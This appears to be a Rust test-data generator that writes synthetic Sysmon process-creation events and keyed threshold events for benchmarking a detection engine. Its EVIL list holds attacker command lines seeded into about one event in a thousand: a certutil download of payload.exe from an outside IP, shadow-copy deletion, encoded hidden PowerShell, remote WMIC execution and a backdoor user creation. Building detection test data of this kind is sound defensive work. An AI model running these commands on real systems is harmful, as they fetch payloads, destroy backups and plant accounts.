//! Deterministic synthetic events for benchmarks and equivalence tests: flat Sysmon
//! process-creation events (the shape of `../shared/peer-bench/gen_events.py`, with a small
//! share of attacker command lines) and keyed events for threshold workloads.

use std::io::Write;

/// A small deterministic generator (splitmix64).
#[derive(Clone, Debug)]
pub struct Rng(u64);

impl Rng {
    /// A generator from a seed.
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }
    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    /// A number in `0..n`.
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n.max(1)
    }
    /// One item of a slice.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

const SYS32: &str = "C:\\Windows\\System32\\";

/// (image under System32 or a full path, original file name, description, argument templates)
const IMAGES: &[(&str, &str, &str, &[&str])] = &[
    (
        "svchost.exe",
        "svchost.exe",
        "Host Process for Windows Services",
        &[
            "-k netsvcs -p -s {s}",
            "-k LocalService -p -s {s}",
            "-k DcomLaunch -p",
        ],
    ),
    (
        "conhost.exe",
        "CONHOST.EXE",
        "Console Window Host",
        &["0xffffffff -ForceV1", ""],
    ),
    (
        "cmd.exe",
        "Cmd.Exe",
        "Windows Command Processor",
        &[
            "/c dir {d}",
            "/c echo {n} > {f}",
            "/c copy {f} {d}",
            "/c ping -n 1 {h}",
            "/c ver",
        ],
    ),
    (
        "WindowsPowerShell\\v1.0\\powershell.exe",
        "PowerShell.EXE",
        "Windows PowerShell",
        &[
            "-NoProfile -ExecutionPolicy Bypass -File {d}\\script{n}.ps1",
            "-Command Get-Process",
            "-Command Get-Service {s}",
        ],
    ),
    (
        "rundll32.exe",
        "RUNDLL32.EXE",
        "Windows host process (Rundll32)",
        &["C:\\Windows\\System32\\shell32.dll,Control_RunDLL {f}"],
    ),
    (
        "taskhostw.exe",
        "taskhostw.exe",
        "Host Process for Windows Tasks",
        &["", "NGCKeyPregen"],
    ),
    (
        "dllhost.exe",
        "dllhost.exe",
        "COM Surrogate",
        &["/Processid:{{{n}-4A1B-9C2D-{n}}}"],
    ),
    (
        "net.exe",
        "net.exe",
        "Net Command",
        &["use \\\\{h}\\share", "view", "start {s}"],
    ),
    (
        "ipconfig.exe",
        "ipconfig.exe",
        "IP Configuration Utility",
        &["/all", "/flushdns", ""],
    ),
    (
        "reg.exe",
        "reg.exe",
        "Registry Console Tool",
        &["query HKLM\\Software\\Vendor{n}"],
    ),
    (
        "sc.exe",
        "sc.exe",
        "Service Control Manager Configuration Tool",
        &["query {s}", "qc {s}"],
    ),
    (
        "tasklist.exe",
        "tasklist.exe",
        "Lists the current running tasks",
        &["/v", "/svc"],
    ),
    (
        "msiexec.exe",
        "msiexec.exe",
        "Windows\u{ae} installer",
        &["/V", "/i {d}\\setup{n}.msi /qn"],
    ),
    (
        "findstr.exe",
        "FINDSTR.EXE",
        "Find String (QGREP) Utility",
        &["/i error {f}"],
    ),
    (
        "certutil.exe",
        "CertUtil.exe",
        "CertUtil.exe",
        &["-hashfile {f} SHA256", "-store my"],
    ),
    (
        "wbem\\WMIC.exe",
        "wmic.exe",
        "WMI Commandline Utility",
        &["os get caption", "cpu get loadpercentage"],
    ),
    (
        "schtasks.exe",
        "schtasks.exe",
        "Task Scheduler Configuration Tool",
        &["/query /fo LIST", "/run /tn \"\\Vendor\\Updater{n}\""],
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "chrome.exe",
        "Google Chrome",
        &["--type=renderer --lang=en-US /prefetch:1", "https://{h}/"],
    ),
    (
        "C:\\Program Files\\Git\\cmd\\git.exe",
        "git.exe",
        "Git for Windows",
        &["status", "fetch origin", "log --oneline -n {n}"],
    ),
    (
        "C:\\Program Files\\Python311\\python.exe",
        "python.exe",
        "Python",
        &["-m pip list", "{d}\\etl_job{n}.py"],
    ),
    (
        "C:\\Program Files\\7-Zip\\7z.exe",
        "7z.exe",
        "7-Zip Console",
        &["x {d}\\archive{n}.7z -o{d}", "l {f}"],
    ),
];

/// Attacker-like command lines: (image, original file name, command line).
const EVIL: &[(&str, &str, &str)] = &[
    (
        "certutil.exe",
        "CertUtil.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe",
    ),
    (
        "vssadmin.exe",
        "VSSADMIN.EXE",
        "vssadmin.exe delete shadows /all /quiet",
    ),
    ("whoami.exe", "whoami.exe", "whoami /all"),
    (
        "WindowsPowerShell\\v1.0\\powershell.exe",
        "PowerShell.EXE",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    ),
    (
        "wbem\\WMIC.exe",
        "wmic.exe",
        "wmic /node:10.0.4.12 process call create \"cmd.exe /c whoami\"",
    ),
    ("net.exe", "net.exe", "net user backdoor P@ssw0rd! /add"),
];

const USERS: &[&str] = &[
    "CORP\\alice",
    "CORP\\bob",
    "CORP\\carol",
    "CORP\\svc_backup",
    "NT AUTHORITY\\SYSTEM",
    "WS-0142\\admin",
];
const HOSTS: &[&str] = &[
    "fileserver01",
    "dc01.corp.local",
    "10.0.4.12",
    "api.example.com",
];
const SERVICES: &[&str] = &["wuauserv", "BITS", "Spooler", "WinRM", "Dnscache"];
const DIRS: &[&str] = &[
    "C:\\Users\\{u}\\Documents",
    "C:\\Users\\{u}\\Downloads",
    "C:\\ProgramData\\Vendor",
    "C:\\Windows\\Temp",
    "D:\\Projects\\repo{n}",
];
const FILES: &[&str] = &["notes{n}.txt", "report{n}.csv", "config.json", "app.log"];

fn fill(r: &mut Rng, t: &str, user: &str) -> String {
    let short = user.rsplit('\\').next().unwrap_or(user);
    let mut s = t.to_string();
    for _ in 0..8 {
        let before = s.clone();
        if let Some(i) = s.find("{f}") {
            let f = format!("{}\\{}", r.pick(DIRS), r.pick(FILES));
            s.replace_range(i..i + 3, &f);
        } else if let Some(i) = s.find("{d}") {
            let d = r.pick(DIRS).to_string();
            s.replace_range(i..i + 3, &d);
        } else if let Some(i) = s.find("{h}") {
            let h = r.pick(HOSTS).to_string();
            s.replace_range(i..i + 3, &h);
        } else if let Some(i) = s.find("{s}") {
            let v = r.pick(SERVICES).to_string();
            s.replace_range(i..i + 3, &v);
        } else if let Some(i) = s.find("{n}") {
            let n = (1 + r.below(99_998)).to_string();
            s.replace_range(i..i + 3, &n);
        } else if let Some(i) = s.find("{u}") {
            s.replace_range(i..i + 3, short);
        }
        if s == before {
            break;
        }
    }
    s
}

fn image_path(img: &str) -> String {
    if img.contains(':') {
        img.to_string()
    } else {
        format!("{SYS32}{img}")
    }
}

/// Milliseconds of 2026-11-01T08:00:00Z.
const T0: i64 = 1_793_520_000_000;

fn rfc3339(ms: i64) -> String {
    sigil_eval::time::format_ms(ms)
}

/// Writes `n` flat Sysmon process-creation events, one JSON object per line: about one in
/// a thousand is an attacker-like command line (`whoami`, `certutil -urlcache`, …).
pub fn process_events(n: usize, seed: u64, out: &mut dyn Write) -> std::io::Result<()> {
    let mut r = Rng::new(seed);
    let mut line = Vec::with_capacity(1024);
    for i in 0..n {
        let ms = T0 + i as i64 * 37 + r.below(37) as i64;
        let user = *r.pick(USERS);
        let (img, orig, desc, cl) = if r.below(1000) == 0 {
            let (img, orig, cl) = *r.pick(EVIL);
            (image_path(img), orig, "", cl.to_string())
        } else {
            let (img, orig, desc, args) = *r.pick(IMAGES);
            let path = image_path(img);
            let t = *r.pick(args);
            let arg = fill(&mut r, t, user);
            let quoted = if path.contains(' ') {
                format!("\"{path}\"")
            } else {
                path.clone()
            };
            let cl = if arg.is_empty() {
                quoted
            } else {
                format!("{quoted} {arg}")
            };
            (path, orig, desc, cl)
        };
        let parent = image_path(r.pick(IMAGES).0);
        let d = *r.pick(DIRS);
        let cwd = fill(&mut r, d, user);
        let utc = rfc3339(ms).replace('T', " ").replace('Z', "");
        let ev = serde_json::json!({
            "EventID": 1,
            "UtcTime": utc,
            "TimeCreated": rfc3339(ms),
            "Image": img,
            "CommandLine": cl,
            "ParentImage": parent,
            "ParentCommandLine": parent,
            "User": user,
            "OriginalFileName": orig,
            "Description": desc,
            "Product": "Microsoft\u{ae} Windows\u{ae} Operating System",
            "Company": "Microsoft Corporation",
            "Hashes": format!("SHA1={:016X}{:016X},MD5={:016X}{:016X}", r.next_u64(), r.next_u64(), r.next_u64(), r.next_u64()),
            "CurrentDirectory": format!("{cwd}\\"),
            "IntegrityLevel": *r.pick(&["Medium", "High", "System"]),
        });
        line.clear();
        serde_json::to_writer(&mut line, &ev)?;
        line.push(b'\n');
        out.write_all(&line)?;
    }
    Ok(())
}

/// Writes `n` keyed events for threshold workloads: one event every `step_ms`, each with a
/// `user` out of `groups` (one event in a hundred from 100 busy users, so some groups fill
/// their windows) and a `host` out of 50, so a distinct count per user has work to do.
pub fn keyed_events(
    n: usize,
    groups: u64,
    step_ms: i64,
    seed: u64,
    out: &mut dyn Write,
) -> std::io::Result<()> {
    let mut r = Rng::new(seed);
    let mut line = Vec::with_capacity(256);
    for i in 0..n {
        let ms = T0 + i as i64 * step_ms;
        let user = if r.below(100) == 0 {
            r.below(100)
        } else {
            r.below(groups)
        };
        let ev = serde_json::json!({
            "time": rfc3339(ms),
            "eventName": "AssumeRole",
            "user": format!("user{user:06}"),
            "host": format!("host{:02}", r.below(50)),
            "bytes": r.below(100_000),
        });
        line.clear();
        serde_json::to_writer(&mut line, &ev)?;
        line.push(b'\n');
        out.write_all(&line)?;
    }
    Ok(())
}
